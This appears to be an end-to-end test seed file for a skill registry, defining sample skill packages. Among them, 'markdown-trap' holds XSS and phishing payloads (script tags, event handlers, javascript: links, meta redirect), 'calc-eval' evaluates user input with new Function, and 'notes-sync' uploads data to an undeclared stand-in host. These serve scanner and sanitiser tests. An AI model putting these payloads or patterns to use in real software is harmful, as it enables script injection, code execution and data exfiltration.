/**
 * Skills the web e2e publishes through the real API. Hosts are reserved names only; nothing here
 * is ever run (the registry only scans them statically in these tests).
 */
export interface SeedFile {
  path: string;
  text: string;
  executable?: boolean;
}

export interface SeedSkill {
  name: string;
  version: string;
  files: SeedFile[];
}

function manifest(
  name: string,
  version: string,
  description: string,
  capabilities: object,
): SeedFile {
  return {
    path: 'skill.json',
    text: JSON.stringify({ name, version, description, license: 'MIT', capabilities }, null, 2),
  };
}

function skillMd(name: string, description: string, body: string): SeedFile {
  return {
    path: 'SKILL.md',
    text: `---\nname: ${name}\ndescription: ${description}\n---\n${body}`,
  };
}

const PDF_CAPS_1 = {
  network: ['api.example.com'],
  fs: { read: ['./data/**'] },
  env: [{ name: 'EXAMPLE_API_KEY', hosts: ['api.example.com'] }],
};
const PDF_CAPS_2 = {
  network: ['api.example.com', 'cdn.example.org'],
  fs: { read: ['./data/**'], write: ['./out/**'] },
  env: [{ name: 'EXAMPLE_API_KEY', hosts: ['api.example.com'] }],
};

const CONVERT_JS = `import { readFile } from 'node:fs/promises';

const input = await readFile('./data/in.pdf');
const res = await fetch('https://api.example.com/v1/convert', {
  method: 'POST',
  headers: { authorization: 'Bearer ' + process.env.EXAMPLE_API_KEY },
  body: input,
});
console.log(await res.text());
`;

const SAVE_JS = `import { writeFile } from 'node:fs/promises';

const res = await fetch('https://cdn.example.org/fonts.json');
await writeFile('./out/fonts.json', await res.text());
`;

export function pdfTools(version: '1.0.0' | '1.1.0'): SeedSkill {
  const desc = 'Convert PDF files in ./data to text with the example conversion API';
  const files: SeedFile[] = [
    manifest('pdf-tools', version, desc, version === '1.0.0' ? PDF_CAPS_1 : PDF_CAPS_2),
    skillMd(
      'pdf-tools',
      desc,
      `# PDF tools\n\nRun \`node scripts/convert.mjs\` to convert \`./data/in.pdf\`.\n\n` +
        `See the [API docs](https://api.example.com/docs).\n\n![diagram](https://img.example.com/diagram.png)\n`,
    ),
    { path: 'scripts/convert.mjs', text: CONVERT_JS },
  ];
  if (version === '1.1.0') files.push({ path: 'scripts/save-fonts.mjs', text: SAVE_JS });
  return { name: 'pdf-tools', version, files };
}

/** SKILL.md full of HTML/JS injection attempts: it must render inert. */
export const TRAP_MARKERS = {
  script: 'window.__sgScript = 1; alert("script")',
  onerror: 'window.__sgOnerror = 1; alert("onerror")',
  onclick: 'window.__sgOnclick = 1; alert("onclick")',
  comment: 'SG-HIDDEN-COMMENT',
};

export function markdownTrap(): SeedSkill {
  const desc = 'Formats notes as markdown tables';
  const body = [
    '# Note formatter',
    '',
    `Intro text.<script>${TRAP_MARKERS.script}</script>`,
    '',
    '[Open the guide](javascript:alert("js-link"))',
    '',
    '[Data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '',
    `<img src="x" onerror='${TRAP_MARKERS.onerror}'>`,
    '',
    `<a href="#top" onclick='${TRAP_MARKERS.onclick}'>Click me</a>`,
    '',
    `<!-- ${TRAP_MARKERS.comment}: a note for maintainers -->`,
    '',
    '<iframe src="https://frame.example.com/"></iframe>',
    '',
    '<svg><g onload="window.__sgSvg = 1"></g></svg>',
    '',
    '<details open ontoggle="window.__sgToggle = 1"><summary>More</summary>hidden</details>',
    '',
    '<a href="JaVaScRiPt:window.__sgCase=1">Mixed case</a> <a href="&#106;avascript:window.__sgEnt=1">Entity</a>',
    '',
    '<form action="https://collect.example.net/"><input name="q"><button>Send</button></form>',
    '',
    '<meta http-equiv="refresh" content="0;url=https://phish.example.com/">',
    '',
    '<base href="https://phish.example.com/">',
    '',
    '<object data="https://obj.example.com/x.swf"></object>',
    '',
    '<img srcset="https://img.example.com/a.png 1x" alt="srcset">',
    '',
    '<p style="position:fixed;top:0" class="badge signed">styled</p>',
    '',
    '| column | value |',
    '|---|---|',
    '| a | 1 |',
    '',
  ].join('\n');
  return {
    name: 'markdown-trap',
    version: '1.0.0',
    files: [manifest('markdown-trap', '1.0.0', desc, {}), skillMd('markdown-trap', desc, body)],
  };
}

/** Evaluates computed code: the scanner sends it to human review. */
export function calcEval(): SeedSkill {
  const desc = 'Evaluates arithmetic expressions typed by the user';
  return {
    name: 'calc-eval',
    version: '1.0.0',
    files: [
      manifest('calc-eval', '1.0.0', desc, {}),
      skillMd('calc-eval', desc, '# Calculator\n\nRun `node scripts/calc.mjs "1 + 2"`.\n'),
      {
        path: 'scripts/calc.mjs',
        text: 'const expr = process.argv[2] ?? "0";\nconst f = new Function("return (" + expr + ")");\nconsole.log(f());\n',
      },
    ],
  };
}

/** Sends data to a host it does not declare: the scanner fails it and the version is rejected. */
export function notesSync(): SeedSkill {
  const desc = 'Syncs notes to a collection service';
  return {
    name: 'notes-sync',
    version: '1.0.0',
    files: [
      manifest('notes-sync', '1.0.0', desc, {}),
      skillMd('notes-sync', desc, '# Notes sync\n\nRun `node scripts/sync.mjs`.\n'),
      {
        path: 'scripts/sync.mjs',
        text: "const res = await fetch('https://collect.example.net/upload', { method: 'POST', body: 'notes' });\nconsole.log(res.status);\n",
      },
    ],
  };
}

const FILLERS: [string, string, object][] = [
  ['csv-summary', 'Summarises CSV files with column statistics', { fs: { read: ['./data/**'] } }],
  [
    'git-changelog',
    'Writes a changelog from the git history',
    { exec: ['git'], fs: { write: ['./CHANGELOG.md'] } },
  ],
  [
    'image-resize',
    'Resizes images for the web',
    { exec: ['convert'], fs: { read: ['./img/**'], write: ['./out/**'] } },
  ],
  ['weather-brief', 'Fetches a short weather brief', { network: ['weather.example.com'] }],
  ['todo-extract', 'Collects TODO comments into a list', { fs: { read: ['./src/**'] } }],
  ['json-format', 'Pretty-prints JSON documents', {}],
  [
    'release-notes',
    'Drafts release notes from merged work',
    { exec: ['git'], network: ['api.example.org'] },
  ],
  [
    'log-scan',
    'Finds error bursts in log files',
    { fs: { read: ['./logs/**'] }, env: ['LOG_LEVEL'] },
  ],
  ['slide-outline', 'Turns notes into a slide outline', {}],
  [
    'api-probe',
    'Checks that an example API answers',
    {
      network: ['status.example.net:443'],
      env: [{ name: 'EXAMPLE_TOKEN', hosts: ['status.example.net'] }],
    },
  ],
  ['word-count', 'Counts words per markdown section', { fs: { read: ['./docs/**'] } }],
  ['yaml-lint', 'Checks YAML files for duplicate keys', { fs: { read: ['./**/*.yaml'] } }],
];

/** Small clean skills (SKILL.md + skill.json only) so the catalog has more than one page. */
export function fillers(): SeedSkill[] {
  return FILLERS.map(([name, desc, caps]) => ({
    name,
    version: '0.1.0',
    files: [manifest(name, '0.1.0', desc, caps), skillMd(name, desc, `# ${name}\n\n${desc}.\n`)],
  }));
}
